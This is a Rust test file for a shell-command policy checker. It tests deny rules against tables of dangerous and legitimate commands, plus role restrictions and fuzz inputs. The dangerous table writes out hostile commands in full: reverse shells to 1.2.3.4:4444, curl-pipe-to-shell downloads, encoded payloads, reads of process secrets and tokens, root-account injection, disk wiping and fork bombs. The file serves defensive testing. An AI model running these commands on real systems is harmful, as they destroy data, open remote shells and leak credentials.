//! Table-driven corpus for the command policy: dangerous variants, legitimate commands, roles and hostile input.

use std::collections::BTreeMap;

use dtma::policy::{Decision, NamedPattern, Policy, PolicyConfig, Role};

/// Dangerous commands, checked as `Role::Admin`, with the rule expected to deny them.
const DANGEROUS: &[(&str, &str)] = &[
    // mass deletion
    ("rm -rf /", "mass_deletion"),
    ("rm -fr /", "mass_deletion"),
    ("rm -r -f /", "mass_deletion"),
    ("rm -rf /*", "mass_deletion"),
    ("rm -rf --no-preserve-root /", "mass_deletion"),
    ("rm -rf /etc/", "mass_deletion"),
    ("rm -rf /usr/../", "mass_deletion"),
    ("/bin/rm -rf /", "mass_deletion"),
    ("sudo rm -rf /", "mass_deletion"),
    ("env rm -rf /", "mass_deletion"),
    ("rm -rf \"/\"", "mass_deletion"),
    ("rm -rf '/'", "mass_deletion"),
    ("r\\m -rf /", "mass_deletion"),
    ("\"rm\" -rf /", "mass_deletion"),
    ("rm -Rf //var/./lib/docker/", "mass_deletion"),
    ("rm --recursive --force /home", "mass_deletion"),
    ("rm -rf -- /boot", "mass_deletion"),
    ("rm / -rf", "mass_deletion"),
    ("rm -rf /var/lib/../../usr", "mass_deletion"),
    ("cd / && rm -rf *", "mass_deletion"),
    ("cd /etc; rm -rf ./", "mass_deletion"),
    ("rm -rf $X/", "mass_deletion"),
    ("rm -rf \"$TARGET\"", "mass_deletion"),
    ("xargs rm -rf < list", "mass_deletion"),
    ("find / -delete", "mass_deletion"),
    ("find /etc -exec rm -rf {} +", "mass_deletion"),
    ("find / -name '*.conf' -exec rm {} \\;", "mass_deletion"),
    ("nice -n 10 timeout 5 rm -rf /usr", "mass_deletion"),
    ("busybox rm -rf /", "mass_deletion"),
    ("ls; (cd /tmp && echo ok) && rm -rf /lib64", "mass_deletion"),
    ("echo $(rm -rf /)", "mass_deletion"),
    ("if true; then rm -rf /srv; fi", "mass_deletion"),
    ("for d in a b; do rm -rf /opt; done", "mass_deletion"),
    ("sh -c \"rm -rf /\"", "mass_deletion"),
    ("su -c 'rm -rf /'", "mass_deletion"),
    ("sudo -u root -- bash -lc 'rm -rf /'", "mass_deletion"),
    ("watch -n 1 rm -rf /", "mass_deletion"),
    ("rsync -a --delete /tmp/empty/ /", "mass_deletion"),
    // unjudgeable
    ("$(echo rm) -rf /", "unjudgeable"),
    ("`echo rm` -rf /", "unjudgeable"),
    ("X=rm; $X -rf /", "unjudgeable"),
    ("${CMD} -rf /", "unjudgeable"),
    ("eval \"rm -rf /\"", "unjudgeable"),
    ("exec $SHELL", "unjudgeable"),
    ("echo rm -rf / | sh", "unjudgeable"),
    ("sh <<EOF\nrm -rf /\nEOF", "unjudgeable"),
    ("bash <<< 'reboot'", "unjudgeable"),
    (". /dev/stdin", "unjudgeable"),
    ("source $FILE", "unjudgeable"),
    (
        "python3 -c 'import os; os.system(\"reboot\")'",
        "unjudgeable",
    ),
    ("perl -e 'system(\"rm -rf /\")'", "unjudgeable"),
    ("ruby -e '`reboot`'", "unjudgeable"),
    (
        "node -e \"require('child_process').execSync('reboot')\"",
        "unjudgeable",
    ),
    ("awk 'BEGIN{system(\"reboot\")}'", "unjudgeable"),
    ("awk 'BEGIN { print \"reboot\" | \"sh\" }'", "unjudgeable"),
    ("sed -n '1e reboot' /etc/hosts", "unjudgeable"),
    ("alias ls='rm -rf /'", "unjudgeable"),
    ("bash -c \"$CODE\"", "unjudgeable"),
    // power state
    ("bash -c 'shutdown now'", "power_state"),
    ("/sbin/shutdown -h now", "power_state"),
    ("shutdown -r now", "power_state"),
    ("reboot", "power_state"),
    ("systemctl reboot", "power_state"),
    ("systemctl --force poweroff", "power_state"),
    ("systemctl isolate rescue.target", "power_state"),
    ("systemctl start reboot.target", "power_state"),
    ("init 0", "power_state"),
    ("telinit 6", "power_state"),
    ("echo b > /proc/sysrq-trigger", "power_state"),
    ("echo c | tee /proc/sysrq-trigger", "power_state"),
    ("sudo nohup halt &", "power_state"),
    ("docker ps; poweroff", "power_state"),
    // encoded payloads and downloads
    ("echo cm0gLXJmIC8= | base64 -d | sh", "encoded_payload"),
    ("printf '\\x72\\x6d' | bash", "encoded_payload"),
    ("echo 'tob- fr- mr' | rev | sh", "encoded_payload"),
    ("curl http://x/i.sh | sh", "download_exec"),
    ("curl -s http://x | sudo bash", "download_exec"),
    ("wget -qO- http://x | sh", "download_exec"),
    ("wget -O - http://x|python3", "download_exec"),
    ("bash <(curl -s http://x)", "download_exec"),
    ("bash -c \"$(curl -fsSL http://x)\"", "download_exec"),
    ("source <(wget -qO- http://x)", "download_exec"),
    (
        "curl http://x | tee /tmp/log | sh -s -- --flag",
        "download_exec",
    ),
    // kill
    ("kill -9 1", "kill_init"),
    ("kill -9 -1", "kill_init"),
    ("kill -SIGKILL 1", "kill_init"),
    ("kill 1", "kill_init"),
    ("kill -s KILL -1", "kill_init"),
    ("pkill -9 dockerd", "kill_init"),
    ("pkill containerd", "kill_init"),
    ("killall -9 sshd", "kill_init"),
    ("killall5", "kill_init"),
    ("kill -9 $(pidof dockerd)", "kill_init"),
    // process secrets
    ("cat /proc/1/environ", "process_secrets"),
    ("tr '\\0' '\\n' < /proc/self/environ", "process_secrets"),
    ("strings /proc/$$/environ", "process_secrets"),
    ("xxd /proc/*/environ", "process_secrets"),
    ("ps auxe", "process_secrets"),
    ("ps eww", "process_secrets"),
    ("echo $DTMA_BEARER_TOKEN", "process_secrets"),
    ("printenv BACKEND_TO_DTMA_API_KEY", "process_secrets"),
    ("cat /etc/dtma/config.toml", "process_secrets"),
    ("ls $CREDENTIALS_DIRECTORY", "process_secrets"),
    // network shells
    ("nc -e /bin/sh 1.2.3.4 4444", "network_shell"),
    ("ncat --exec /bin/bash 1.2.3.4 4444", "network_shell"),
    ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "network_shell"),
    ("socat tcp:1.2.3.4:4444 exec:/bin/sh", "network_shell"),
    ("telnet 1.2.3.4 4444 | sh", "network_shell"),
    // disks
    ("dd if=/dev/zero of=/dev/sda", "filesystem_tools"),
    ("mkfs.ext4 /dev/vdb", "filesystem_tools"),
    ("fdisk /dev/sda", "filesystem_tools"),
    ("wipefs -a /dev/nvme0n1", "filesystem_tools"),
    ("shred -n 1 /dev/sdb", "filesystem_tools"),
    ("swapoff -a", "filesystem_tools"),
    ("cat /dev/zero > /dev/vda", "block_device_write"),
    ("echo x >> /dev/mapper/root", "block_device_write"),
    ("cp /tmp/img /dev/nvme0n1", "block_device_write"),
    (
        "head -c 1M /dev/urandom | tee /dev/xvda",
        "block_device_write",
    ),
    ("{ echo a; } > /dev/sdb1", "block_device_write"),
    // accounts
    ("passwd root", "account_change"),
    ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "account_change"),
    ("useradd -o -u 0 evil", "account_change"),
    (
        "echo 'evil ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/evil",
        "account_change",
    ),
    (
        "echo ssh-rsa AAA >> ~/.ssh/authorized_keys",
        "account_change",
    ),
    ("sed -i s/x/y/ /etc/shadow", "account_change"),
    ("cp /tmp/keys /root/.ssh/authorized_keys", "account_change"),
    // permissions
    ("chmod -R 777 /", "permission_change"),
    ("chown -R nobody /etc", "permission_change"),
    ("chmod 777 /etc/shadow", "permission_change"),
    ("chgrp -R users /usr/bin", "permission_change"),
    ("chattr +i /etc/resolv.conf", "permission_change"),
    // services and firewall
    ("systemctl stop docker", "critical_service"),
    ("systemctl disable --now sshd.service", "critical_service"),
    ("service docker stop", "critical_service"),
    ("systemctl mask dtma", "critical_service"),
    ("iptables -F", "firewall_lockout"),
    ("iptables -P INPUT DROP", "firewall_lockout"),
    ("nft flush ruleset", "firewall_lockout"),
    ("ip link set eth0 down", "firewall_lockout"),
    ("ifdown eth0", "firewall_lockout"),
    // fork bomb
    (": () { :|:& };:", "fork_bomb"),
    ("bomb() { bomb | bomb & }; bomb", "fork_bomb"),
    // more wrappers, expansions and two-step tricks
    ("{rm,-rf,/}", "unjudgeable"),
    ("$'\\x72\\x6d' -rf /", "unjudgeable"),
    ("rm$IFS-rf$IFS/", "unjudgeable"),
    ("echo '* * * * * reboot' | crontab -", "unjudgeable"),
    ("echo reboot | at now", "unjudgeable"),
    ("{ sh; } <<EOF\nreboot\nEOF", "unjudgeable"),
    ("env -S 'rm -rf /'", "mass_deletion"),
    ("command rm -rf /", "mass_deletion"),
    ("exec rm -rf /", "mass_deletion"),
    ("time rm -rf /", "mass_deletion"),
    ("rm -rf /e*", "mass_deletion"),
    ("rm -rf ~", "mass_deletion"),
    ("rm -rf /var/*", "mass_deletion"),
    ("sudo -s rm -rf /", "mass_deletion"),
    ("trap 'rm -rf /' EXIT", "mass_deletion"),
    ("f() { rm -rf /; }; f", "mass_deletion"),
    ("nsenter -t 1 -m -u -i -n -p -- reboot", "power_state"),
    ("git -c core.pager='sh -c reboot' log", "power_state"),
    ("systemctl --no-block reboot", "power_state"),
    (
        "dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.Reboot boolean:true",
        "power_state",
    ),
    ("mount -o remount,ro /", "filesystem_tools"),
    ("python3 <(curl x)", "download_exec"),
    ("curl x | . /dev/stdin", "download_exec"),
    (
        "curl -o /tmp/a.sh http://x/a.sh && sh /tmp/a.sh",
        "download_exec",
    ),
    ("wget http://x/a.sh; bash a.sh", "download_exec"),
    (
        "curl http://x > /tmp/i.sh; chmod +x /tmp/i.sh; /tmp/i.sh",
        "download_exec",
    ),
    (
        "echo cm0= | base64 -d > /tmp/x.sh; sh /tmp/x.sh",
        "encoded_payload",
    ),
    (
        "bash -c \"$(echo cm0gLXJmIC8= | base64 -d)\"",
        "encoded_payload",
    ),
    ("truncate -s 0 /etc/passwd", "account_change"),
    ("mv /tmp/p /etc/passwd", "account_change"),
    ("cat /tmp/p | dd of=/etc/passwd", "account_change"),
    ("/etc/init.d/ssh stop", "critical_service"),
    ("systemctl kill -s KILL docker", "kill_init"),
    ("kill -9 -- -1", "kill_init"),
    ("pkill -f .", "kill_init"),
    ("killall -r '.*'", "kill_init"),
    ("pkill -u root", "kill_init"),
    ("iptables -A INPUT -j DROP", "firewall_lockout"),
    ("exec 3<>/dev/tcp/1.2.3.4/80", "network_shell"),
    // parse errors
    ("echo 'unterminated", "unparsable"),
    ("echo $(ls", "unparsable"),
    ("(echo a", "unparsable"),
];

/// Legitimate commands that `Role::Admin` may run.
const LEGIT: &[&str] = &[
    "docker ps -a",
    "docker logs reasoning-server --tail 20",
    "df -h",
    "free -m",
    "ps aux",
    "ps -ef",
    "ps axo pid,user,cmd",
    "journalctl -u dtma -n 50",
    "grep -i shutdown /var/log/syslog",
    "grep -c reboot /var/log/syslog",
    "systemctl status docker",
    "systemctl restart docker",
    "ss -tlnp",
    "uptime",
    "cat /etc/os-release",
    "ls -la /var/lib/docker",
    "rm -rf /tmp/build-cache",
    "rm -f /tmp/x.log",
    "rm -rf /var/log/nginx/old",
    "echo \"reboot needed\" > /tmp/note",
    "tail -n 100 /var/log/syslog | grep -v debug",
    "docker inspect x | grep -i status",
    "curl -s http://127.0.0.1:30000/health",
    "curl -o /tmp/x.tar.gz http://example/x.tar.gz",
    "curl -s http://127.0.0.1:30000/health | python3 -m json.tool",
    "find /var/log -name '*.gz' -mtime +7",
    "find /var/log -name '*.gz' -mtime +7 -delete",
    "kill 12345",
    "kill -TERM 4242",
    "kill -9 4242 4243",
    "python3 script.py",
    "bash /opt/app/deploy.sh --dry-run",
    "echo $HOME",
    "for i in 1 2 3; do echo $i; done",
    "if [ -f /tmp/x ]; then cat /tmp/x; fi",
    "docker restart reasoning-server",
    "ping -c 3 127.0.0.1",
    "sleep 1",
    "seq 1 100",
    "printf 'a\\nb\\n'",
    "awk '{print $1}' /etc/hosts",
    "sed -n 1,5p /etc/hosts",
    "sed -n '/shutdown/p' /var/log/syslog",
    "git status",
    "tar czf /tmp/logs.tgz /var/log/nginx",
    "du -sh /var/lib/docker",
    "lsblk",
    "ip addr",
    "cat /proc/meminfo",
    "cat /proc/1/status",
    "env",
    "printenv PATH",
    "fdisk -l",
    "chmod 644 /tmp/x",
    "chown -R app:app /srv/app/data",
    "sudo systemctl status nginx",
    "timeout 10 docker stats --no-stream",
    "cat <<EOF > /tmp/cfg\nkey = value\nreboot = false\nEOF",
    "X=1 Y=2",
    "FOO=bar env | sort",
    "echo 'rm -rf /' > /tmp/notes.txt",
    "nvidia-smi",
    "pkill -f my-worker",
    "killall nginx",
    "python3 -c 'import sys; print(sys.version)'",
    "bash -c 'echo hello && uptime'",
    "sh -c 'docker ps | grep -c Up'",
    "docker exec reasoning-server ls /app",
    "journalctl --since '1 hour ago' | tail -n 50",
    "case $1 in start) echo s;; *) echo other;; esac",
    "ls /etc/sudoers.d",
    "cat ~/.ssh/authorized_keys",
    "echo $((1 + 2))",
    "while read l; do echo $l; done < /tmp/list",
    "mkdir -p /tmp/a/b && cp /etc/hosts /tmp/a/b/",
    "iptables -L -n",
    "ip route show",
    "systemctl list-units --failed",
    "rm -rf ~/cache",
    "rm -rf /tmp/*",
    "iptables -A INPUT -p tcp --dport 8080 -j DROP",
    "echo \"a $(echo \"b\")\"",
    "echo ${#x} ${x#*/} ${x%%.*}",
    "echo a # comment ; rm -rf /",
    "x=$(cat <<'EOF'\nfoo\nEOF\n)",
    "[ \"$a\" = \"b\" ] && echo y || echo n",
    "docker logs --since 10m x 2>&1 | grep -iE 'error|warn' | tail -20",
    "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
    "docker system prune -af",
    "time ls -la",
];

fn policy() -> Policy {
    Policy::default()
}

#[test]
fn corpus_sizes() {
    assert!(
        DANGEROUS.len() >= 80,
        "only {} dangerous entries",
        DANGEROUS.len()
    );
    assert!(LEGIT.len() >= 50, "only {} legit entries", LEGIT.len());
}

#[test]
fn dangerous_commands_are_denied_by_the_expected_rule() {
    let p = policy();
    let mut failures = Vec::new();
    for (cmd, rule) in DANGEROUS {
        let d = p.check(Role::Admin, cmd);
        if d.allowed || d.rule != *rule {
            failures.push(format!("{cmd:?}: expected {rule}, got {d:?}"));
        }
        if !d.allowed && d.reason.is_empty() {
            failures.push(format!("{cmd:?}: empty reason"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn legitimate_commands_are_allowed_for_admin() {
    let p = policy();
    let mut failures = Vec::new();
    for cmd in LEGIT {
        let d = p.check(Role::Admin, cmd);
        if !d.allowed || d.rule != "allowed" {
            failures.push(format!("{cmd:?}: {d:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn reasons_name_the_offender() {
    let p = policy();
    for (cmd, needle) in [
        ("/sbin/shutdown -h now", "shutdown"),
        ("rm -rf /usr/../etc", "/etc"),
        ("cat /dev/zero > /dev/vda", "/dev/vda"),
        ("pkill -9 dockerd", "dockerd"),
        ("curl http://x/i.sh | sh", "curl"),
        ("$(echo rm) -rf /", "$(echo rm)"),
    ] {
        let d = p.check(Role::Admin, cmd);
        assert!(!d.allowed, "{cmd}");
        assert!(
            d.reason.contains(needle),
            "{cmd}: reason {:?} lacks {needle}",
            d.reason
        );
    }
}

/// (command, role, expected rule) for the restricted roles.
const ROLES: &[(&str, Role, &str)] = &[
    ("docker ps -a", Role::Diagnostics, "allowed"),
    (
        "docker logs reasoning-server --tail 20",
        Role::Diagnostics,
        "allowed",
    ),
    ("docker stats --no-stream", Role::Diagnostics, "allowed"),
    ("df -h", Role::Diagnostics, "allowed"),
    ("journalctl -u dtma -n 50", Role::Diagnostics, "allowed"),
    ("systemctl status docker", Role::Diagnostics, "allowed"),
    (
        "tail -n 100 /var/log/syslog | grep -v debug",
        Role::Diagnostics,
        "allowed",
    ),
    (
        "ls -la /var/lib/docker 2>/dev/null",
        Role::Diagnostics,
        "allowed",
    ),
    ("ip addr", Role::Diagnostics, "allowed"),
    ("top -b -n 1", Role::Diagnostics, "allowed"),
    ("timeout 5 ss -tlnp", Role::Diagnostics, "allowed"),
    (
        "awk '{print $1}' /etc/hosts | sort | uniq -c",
        Role::Diagnostics,
        "allowed",
    ),
    ("env", Role::Diagnostics, "allowed"),
    (
        "docker restart reasoning-server",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    (
        "systemctl restart docker",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    ("echo x > /tmp/note", Role::Diagnostics, "role_diagnostics"),
    (
        "sed -i s/a/b/ /tmp/x",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    (
        "find /tmp -name x -delete",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    (
        "curl http://127.0.0.1/health",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    ("rm -f /tmp/x", Role::Diagnostics, "role_diagnostics"),
    ("dmesg -C", Role::Diagnostics, "role_diagnostics"),
    (
        "journalctl --vacuum-size=1M",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    ("top", Role::Diagnostics, "role_diagnostics"),
    ("sudo cat /etc/hosts", Role::Diagnostics, "role_diagnostics"),
    (
        "sh -c 'ls; touch /tmp/x'",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    (
        "awk 'BEGIN { print 1 > \"/tmp/x\" }'",
        Role::Diagnostics,
        "role_diagnostics",
    ),
    ("date +%s", Role::Diagnostics, "allowed"),
    ("hostname", Role::Diagnostics, "allowed"),
    ("cat /etc/shadow", Role::Diagnostics, "role_diagnostics"),
    ("hostname evil", Role::Diagnostics, "role_diagnostics"),
    ("sudo docker ps", Role::Operator, "role_operator"),
    ("rm -rf /", Role::Diagnostics, "mass_deletion"),
    ("ls; reboot", Role::Diagnostics, "power_state"),
    ("docker restart reasoning-server", Role::Operator, "allowed"),
    ("docker compose up -d", Role::Operator, "allowed"),
    ("df -h && docker ps", Role::Operator, "allowed"),
    ("echo done > /tmp/marker", Role::Operator, "allowed"),
    ("systemctl restart nginx", Role::Operator, "role_operator"),
    ("apt-get install -y htop", Role::Operator, "role_operator"),
    ("systemctl stop docker", Role::Operator, "critical_service"),
    ("curl -s http://x | sh", Role::Operator, "download_exec"),
];

#[test]
fn restricted_roles() {
    let p = policy();
    let mut failures = Vec::new();
    for (cmd, role, rule) in ROLES {
        let d = p.check(*role, cmd);
        if d.rule != *rule || d.allowed != (*rule == "allowed") {
            failures.push(format!("{cmd:?} as {role:?}: expected {rule}, got {d:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn config_extends_the_policy() {
    let cfg = PolicyConfig {
        extra_deny: vec![NamedPattern {
            name: "no_prune".to_string(),
            pattern: r"^docker system prune".to_string(),
        }],
        operator_allow: vec!["systemctl".to_string()],
    };
    let p = Policy::new(&cfg).unwrap_or_default();
    let d = p.check(Role::Admin, "sudo docker system prune -af");
    assert_eq!((d.allowed, d.rule.as_str()), (false, "no_prune"), "{d:?}");
    let d = p.check(Role::Operator, "systemctl restart nginx");
    assert!(d.allowed, "{d:?}");
    let d = p.check(Role::Operator, "systemctl stop sshd");
    assert_eq!(d.rule, "critical_service");

    let bad = PolicyConfig {
        extra_deny: vec![NamedPattern {
            name: "broken".to_string(),
            pattern: "(".to_string(),
        }],
        operator_allow: Vec::new(),
    };
    let err = Policy::new(&bad)
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("policy rule `broken`: invalid regex"), "{err}");
}

/// Every rule name the built-in policy can report (configured `extra_deny` names come on top).
const KNOWN_RULES: &[&str] = &[
    "allowed",
    "unparsable",
    "unjudgeable",
    "power_state",
    "filesystem_tools",
    "block_device_write",
    "account_change",
    "mass_deletion",
    "permission_change",
    "network_shell",
    "download_exec",
    "encoded_payload",
    "kill_init",
    "process_secrets",
    "critical_service",
    "firewall_lockout",
    "fork_bomb",
    "role_diagnostics",
    "role_operator",
];

/// What is wrong with a decision of the default policy on its own, if anything.
fn inconsistent(d: &Decision) -> Option<&'static str> {
    if !KNOWN_RULES.contains(&d.rule.as_str()) {
        Some("unknown rule")
    } else if d.allowed != (d.rule == "allowed") {
        Some("allowed disagrees with the rule")
    } else if d.reason.trim().is_empty() {
        Some("empty reason")
    } else {
        None
    }
}

/// xorshift64* — deterministic pseudo-random numbers without a crate.
struct XorShift(u64);

impl XorShift {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

#[test]
fn garbage_never_panics_and_gets_consistent_decisions() {
    const PIECES: &[&str] = &[
        "'",
        "\"",
        "(",
        ")",
        "$(",
        "`",
        "|",
        "||",
        "&&",
        "&",
        ";",
        ";;",
        "\n",
        "{",
        "}",
        "${",
        "$((",
        "))",
        "<<",
        "<<-",
        "<<<",
        "EOF",
        ">",
        ">>",
        "<",
        "2>&1",
        "&>",
        "<(",
        ">(",
        "\\",
        "#",
        " ",
        " ",
        " ",
        "rm",
        "-rf",
        "/",
        "sh",
        "-c",
        "bash",
        "sudo",
        "env",
        "xargs",
        "find",
        "-exec",
        "{}",
        "+",
        "\\;",
        "if",
        "then",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "case",
        "esac",
        "while",
        "x",
        "=",
        "X=",
        "$X",
        "$",
        "*",
        "?",
        "[",
        "]",
        "~",
        "..",
        "/dev/sda",
        "curl",
        "base64 -d",
        "eval",
        "kill",
        "-9",
        "1",
        "()",
        "!",
        "time",
        "é",
        "\t",
        "$'",
        "\\\n",
    ];
    let p = policy();
    let mut rng = XorShift(0x9E37_79B9_7F4A_7C15);
    let mut failures = Vec::new();
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    for _ in 0..5000 {
        let len = 1 + rng.below(24);
        let mut s = String::new();
        for _ in 0..len {
            s.push_str(PIECES[rng.below(PIECES.len())]);
        }
        let [admin, operator, diagnostics] =
            [Role::Admin, Role::Operator, Role::Diagnostics].map(|role| p.check(role, &s));
        for (role, d) in [
            (Role::Admin, &admin),
            (Role::Operator, &operator),
            (Role::Diagnostics, &diagnostics),
        ] {
            if let Some(why) = inconsistent(d) {
                failures.push(format!("{s:?} as {role:?}: {why}: {d:?}"));
            }
            if p.check(role, &s) != *d {
                failures.push(format!(
                    "{s:?} as {role:?}: a second check differs from {d:?}"
                ));
            }
        }
        // Deny rules do not depend on the role; the allow-lists only narrow from Admin to Operator to Diagnostics.
        if !admin.allowed && (operator != admin || diagnostics != admin) {
            failures.push(format!(
                "{s:?}: Admin is denied by {} but Operator got {operator:?} and Diagnostics {diagnostics:?}",
                admin.rule
            ));
        }
        if (diagnostics.allowed && !operator.allowed) || (operator.allowed && !admin.allowed) {
            failures.push(format!(
                "{s:?}: a narrower role is allowed where a wider one is not: {admin:?} {operator:?} {diagnostics:?}"
            ));
        }
        *seen.entry(admin.rule).or_default() += 1;
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures
            .iter()
            .take(20)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    // The generator must reach past the parser: a real share of inputs are allowed or denied by a rule.
    let parsed = 5000 - seen.get("unparsable").copied().unwrap_or_default();
    assert!(
        parsed >= 500 && seen.get("allowed").is_some_and(|n| *n >= 250) && seen.len() >= 3,
        "the random inputs hardly reach the rules: {seen:?}"
    );
}

#[test]
fn huge_and_deep_inputs_are_denied_without_overflow() {
    let p = policy();
    let long = format!("echo {}", "a".repeat(70 * 1024));
    let d = p.check(Role::Admin, &long);
    assert_eq!(
        (d.allowed, d.rule.as_str()),
        (false, "unparsable"),
        "{}",
        d.reason
    );

    let nested = format!("echo {}x{}", "$(".repeat(1000), ")".repeat(1000));
    let d = p.check(Role::Admin, &nested);
    assert_eq!(
        (d.allowed, d.rule.as_str()),
        (false, "unparsable"),
        "{}",
        d.reason
    );

    // Nesting in the parser: subshells, groups, expansions, compound commands, arithmetic.
    for deep in [
        format!("{}ls{}", "(".repeat(1000), ")".repeat(1000)),
        format!("{}ls;{}", "{ ".repeat(1000), " }".repeat(1000)),
        format!("echo {}x{}", "${a:-".repeat(1000), "}".repeat(1000)),
        format!("{}ls{}", "if true; then ".repeat(1000), "; fi".repeat(1000)),
        format!("echo {}", "$((".repeat(1000)),
    ] {
        let d = p.check(Role::Admin, &deep);
        assert_eq!((d.allowed, d.rule.as_str()), (false, "unparsable"), "{d:?}");
        assert!(d.reason.contains("nests deeper"), "{d:?}");
    }
    // Nesting through nested shell code: each `sudo -s`/`env -S` hands the rest of the line to another shell.
    for deep in [
        "sudo -s ".repeat(1000) + "ls",
        "env -S ".repeat(1000) + "ls",
        "nice sudo -s ".repeat(40) + "reboot",
    ] {
        let d = p.check(Role::Admin, &deep);
        assert_eq!((d.allowed, d.rule.as_str()), (false, "unparsable"), "{d:?}");
        assert!(d.reason.contains("nests deeper"), "{d:?}");
    }
    // Long but shallow: quotes do not nest, so these are `sh -c sh …` and `sh -c 'sh -c ' sh …`, one level each.
    for shallow in [
        "sh -c ".repeat(1000) + "ls",
        format!("{}ls{}", "sh -c '".repeat(40), "'".repeat(40)),
    ] {
        let d = p.check(Role::Admin, &shallow);
        assert_eq!((d.allowed, d.rule.as_str()), (true, "allowed"), "{d:?}");
    }

    let many = "ls;".repeat(20_000);
    let d = p.check(Role::Diagnostics, &many);
    assert!(d.allowed, "{d:?}");
    let pipes = format!("cat{}", " | sh".repeat(10_000));
    let d = p.check(Role::Admin, &pipes);
    assert_eq!(
        (d.allowed, d.rule.as_str()),
        (false, "unjudgeable"),
        "{d:?}"
    );
}
